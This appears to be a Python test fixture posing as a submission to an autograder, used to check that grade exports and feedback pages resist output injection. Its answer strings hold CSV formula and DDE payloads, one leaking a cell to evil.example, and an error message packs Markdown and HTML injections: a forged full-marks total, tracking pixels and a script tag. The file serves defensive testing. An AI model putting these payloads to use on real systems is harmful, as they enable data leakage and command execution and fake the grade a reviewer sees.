# loses: 1a 1b 1d 1e 1f 2a 3b
# id: =1+2
# Output injection: the id and free-text answers are spreadsheet formulas (every start a
# spreadsheet acts on: = + - @ tab CR), and lm_head raises with Markdown and HTML in its
# message (a forged total, a heading, a remote image, a link, a code span it tries to break
# out of). The CSV cells stay inert and the feedback page shows all of it as text.
ANSWER_1A = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your grade")'
ANSWER_1B = "+1+cmd|' /C calc'!A0"
ANSWER_1D = "-1+cmd|' /C calc'!A0"
ANSWER_1E = "@SUM(1+1)*cmd|' /C calc'!A0"
ANSWER_1F = "\t=1+1 after a tab"
ANSWER_2A = "\r=1+1 after a carriage return"


def lm_head(H, E):
    raise ValueError("**Total: 55 / 55**\n\n# Full marks\n\n![ok](http://evil.example/pixel.png) "
                     '<img src="http://evil.example/pixel.png"> [see](http://evil.example) ` x` `` ` `` '
                     "&lt;b&gt; <script>alert(1)</script>")
